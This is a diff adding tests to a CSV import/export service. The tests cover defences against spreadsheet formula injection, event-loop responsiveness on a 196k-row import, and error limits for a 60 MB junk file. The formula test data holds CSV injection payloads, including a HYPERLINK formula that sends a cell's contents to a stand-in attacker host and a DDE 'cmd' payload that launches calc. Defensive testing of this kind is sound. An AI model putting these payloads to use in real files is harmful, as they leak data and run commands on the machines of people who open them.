@@ -1,4 +1,6 @@
+import { monitorEventLoopDelay } from "node:perf_hooks";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parseEntryCsv } from "../../../packages/controller/src/services/csv.js";
 import { startTestController, type TestController } from "../../helpers/controller.js";
 import { auditOf, createModule, expectStatus, mintKey } from "./helpers.js";
 
@@ -260,4 +262,83 @@ describe("CSV - malformed files", () => {
     expect(again.json()).toEqual(first.json());
     expect(again.headers["idempotent-replayed"]).toBe("true");
   });
+});
+
+describe("CSV - formulas (CSV injection)", () => {
+  const risky = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tleading tab", "\rleading CR", "'=quoted already"];
+
+  it("csv - comments a spreadsheet would run come out with a ' in front, and read back as they were", async () => {
+    const m = await createModule(t, t.rootKey, { name: "csv-formulas", type: "IP_RANGES" });
+    for (const [i, comment] of risky.entries()) {
+      await expectStatus(t, t.rootKey, { method: "POST", url: `/v1/modules/${m.id}/ip-range-entries`, payload: { cidr: `198.51.100.${i}/32`, comment } }, 201);
+    }
+    const out = await exportCsv(m.id);
+    const lines = out.body.split("\r\n");
+    expect(lines[1]).toBe('198.51.100.0/32,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    expect(lines[2]).toBe("198.51.100.1/32,'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(lines[3]).toBe("198.51.100.2/32,'+1+1");
+    expect(lines[4]).toBe("198.51.100.3/32,'-2+3");
+    expect(lines[5]).toBe("198.51.100.4/32,'\tleading tab");
+    expect(lines[7]).toBe("198.51.100.6/32,''=quoted already");
+    // No cell of the export starts a formula.
+    for (const line of lines.slice(1, -1)) expect(line.split(",")[1]).toMatch(/^("')?'|^"'/);
+
+    // The export imports back to the very same comments.
+    const again = await importCsv(m.id, out.body, "?mode=replace");
+    expect(again.json(), again.body).toEqual({ created: 0, updated: 0, deleted: 0, unchanged: risky.length, errors: [] });
+    const stored = (await entries(m.id, "ip-range-entries")).map((e) => e.comment).sort();
+    expect(stored).toEqual([...risky].sort());
+  });
+
+  it("csv - an import whose comment starts a formula is refused with its line", async () => {
+    const m = await createModule(t, t.rootKey, { name: "csv-formulas-in", type: "IP_RANGES" });
+    const res = await importCsv(m.id, csv([["cidr", "comment"], ["10.0.0.0/8", "fine - really"], ["10.1.0.0/16", "=1+1"], ["10.2.0.0/16", "@cmd"], ["10.3.0.0/16", "'=1+1"]]));
+    expect(res.statusCode).toBe(400);
+    expect(res.json().errors).toEqual([
+      { path: "line.3", line: 3, value: "10.1.0.0/16", message: expect.stringContaining("formula") },
+      { path: "line.4", line: 4, value: "10.2.0.0/16", message: expect.stringContaining("formula") },
+    ]);
+    expect(await entries(m.id, "ip-range-entries")).toEqual([]);
+  });
+});
+
+describe("CSV - limits", () => {
+  it("csv - a 196k-row dry run keeps the event loop turning, unlike the parse in one go", async () => {
+    const m = await createModule(t, t.rootKey, { name: "csv-event-loop", type: "IP_RANGES" });
+    let file = "cidr,comment\r\n";
+    for (let i = 0; i < 196_000; i++) file += `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32,row ${i}\r\n`;
+
+    const delay = monitorEventLoopDelay({ resolution: 5 });
+    const maxDelayOf = async (work: () => Promise<unknown>) => {
+      delay.reset();
+      delay.enable();
+      await new Promise((r) => setTimeout(r, 20));
+      await work();
+      await new Promise((r) => setTimeout(r, 20));
+      delay.disable();
+      return delay.max / 1e6;
+    };
+    const inOneGo = await maxDelayOf(() => parseEntryCsv("ip_range", file, { sliceMs: Number.POSITIVE_INFINITY }));
+    let res: Awaited<ReturnType<typeof importCsv>> | undefined;
+    const sliced = await maxDelayOf(async () => {
+      res = await importCsv(m.id, file, "?dry_run=true");
+    });
+    expect(res!.statusCode, res!.body.slice(0, 300)).toBe(200);
+    expect(res!.json()).toMatchObject({ created: 196_000 });
+    console.log(`[csv] 196k rows: event loop max delay ${inOneGo.toFixed(0)} ms parsed in one go, ${sliced.toFixed(0)} ms through the import`);
+    expect(sliced).toBeLessThan(inOneGo / 4);
+  }, 120_000);
+
+  it("csv - a 60 MB junk file answers a small error body: the first 100 bad rows and a count", async () => {
+    const m = await createModule(t, t.rootKey, { name: "csv-junk", type: "IP_RANGES" });
+    const junkLine = `${"x".repeat(300)},${"y".repeat(300)}\n`;
+    const file = `cidr,comment\n${junkLine.repeat(Math.ceil((60 * 1024 * 1024) / junkLine.length))}`;
+    const res = await importCsv(m.id, file);
+    expect(res.statusCode).toBe(400);
+    expect(res.body.length).toBeLessThan(64 * 1024);
+    const body = res.json();
+    expect(body.errors).toHaveLength(100);
+    expect(body.error_count).toBe(Math.ceil((60 * 1024 * 1024) / junkLine.length));
+    expect(body.errors[0]).toMatchObject({ line: 2 });
+  }, 120_000);
 });
